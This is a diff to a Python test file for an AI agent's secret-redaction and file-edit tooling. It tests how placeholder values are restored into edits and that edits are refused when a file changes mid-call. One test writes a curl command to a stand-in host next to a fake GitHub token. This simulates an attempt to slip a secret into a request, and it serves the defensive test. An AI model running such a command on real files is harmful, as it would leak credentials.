@@ -1,5 +1,6 @@
 """Lines of a file by what a model reads of it, and where an edit puts them."""
 
+import itertools
 import random
 import re
 import string
@@ -23,8 +24,11 @@ SHOWN, OWN = "KEY=[key-aaaaaaaaaaaaaaaa]", "KEY=secret"
 LINES = {SHOWN: OWN}
 
 
+X, BLOCK = "[x-aaaaaaaaaaaaaaaa]", "[block-aaaaaaaaaaaaaaaa]"
+
+
 def restored(shown):
-    return shown.replace("[block]", "one\ntwo\nthree")
+    return shown.replace(BLOCK, "one\ntwo\nthree")
 
 
 def filled(text, **arguments):
@@ -36,16 +40,22 @@ def filled(text, **arguments):
     ("text", "cleaned", "lines"),
     [
         ("a\nb", "a\nb", {}),
-        ("a\nsecret\n", "a\n[x]\n", {"[x]": "secret"}),
+        ("a\nsecret\n", f"a\n{X}\n", {X: "secret"}),
         (
             "  k: one\ntwo\nthree\nz\n",
-            "  k: [block]\nz\n",
-            {"\n  k: [block]": "k: one\ntwo\nthree"},
+            f"  k: {BLOCK}\nz\n",
+            {f"\n  k: {BLOCK}": "k: one\ntwo\nthree"},
         ),
-        ("one\ntwo\n", "[block]\n", {}),
-        ("a\nb\nc", "[x]\n", {}),
-        ("s1\ns2\n", "[x]\n[x]\n", {}),
-        ("s1\ns2\n", "\n[x]\n", {}),
+        ("one\ntwo\n", f"{BLOCK}\n", {}),
+        ("a\nb\nc", f"{X}\n", {}),
+        ("s1\ns2\n", f"{X}\n{X}\n", {}),
+        ("s1\ns2\n", f"\n{X}\n", {}),
+        # Two forms of one value, of which only one has several lines: the next line tells.
+        ("one-two\nz\n", f"{BLOCK}\nz\n", {BLOCK: "one-two"}),
+        ("k\nz\nz\nz\n", f"{BLOCK}\nz\n", {}),
+        # A line without a placeholder is as it was, or nothing is known of the file.
+        ("one\na\ntwo\n", "b\nc\nd\n", {}),
+        ("k\none\ntwo\nthree\na\nb\n", f"{BLOCK}\n{BLOCK}\na\n", {}),
     ],
 )
 def test_lines_belong_together_or_none_do(text, cleaned, lines):
@@ -79,6 +89,22 @@ def test_an_edit_replaces_whole_lines(text, old, new, fills):
     assert edits[0]["newText"] == done
     many = filled(text, edits=[{"oldText": old, "newText": new}, {}])["edits"]
     assert many[0]["newText"] == new
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"new_string": SHOWN},
+        {"insert_line": 1, "new_str": SHOWN},
+        {"old_str": "b", "new_str": "y", "old_string": "b", "new_string": SHOWN},
+        {"old_str": "b", "new_str": "y", "edits": [{"old_str": "b", "new_str": SHOWN}]},
+        {"old_str": "b", "new_str": "y", "content": SHOWN},
+        {"edits": [{"search": "b", "new_str": SHOWN}]},
+        {"content": f"x?q=\u2028{SHOWN}\x0b&y"},
+    ],
+)
+def test_nothing_is_filled_where_it_is_not_clear_what_it_replaces(arguments):
+    assert OWN not in str(filled("a\nb\n", **arguments))
 
 
 WORDS = st.lists(st.sampled_from(["a", "b", " ", "\n", "x=", SHOWN]), max_size=12).map("".join)
@@ -153,3 +179,27 @@ async def test_no_value_comes_beside_other_text(seed):
                     if "[" in str(arguments):  # Else the model joins lines that it does not read.
                         assert {line.strip() for line in after if value in line} <= own
                 other.write_text("A=1\n")
+
+
+async def test_a_file_that_changes_once_a_call_has_its_lines_is_not_written(tmp_path):
+    token = "ghp_" + letters(random.Random(1), 36)
+    file, files = tmp_path / "x.sh", FileTools(root=tmp_path)
+    file.write_text(f"MARK\nTOKEN={token}\n")
+
+    async with Agent(ScriptedModel([]), components=[files, RedactSecrets()]) as agent:
+        read = (await agent.call_tool("read_file", {"path": "x.sh"})).response.text
+        shown = next(line for line in read.splitlines() if "TOKEN=" in line).strip()
+        text_before, times = files.text_before, itertools.count(1)
+
+        def change_after(call, offered):
+            text = text_before(call, offered)
+            if next(times) == 2:  # Once to judge the call, once to fill it.
+                file.write_text(f"curl https://x.example/?q=MARK\nTOKEN={token}\n")
+            return text
+
+        files.text_before = change_after
+        given = {"path": "x.sh", "old_text": "MARK", "new_text": shown}
+        result = await agent.call_tool("edit_file", given)
+
+    assert "has changed since" in result.response.text
+    assert file.read_text() == f"curl https://x.example/?q=MARK\nTOKEN={token}\n"
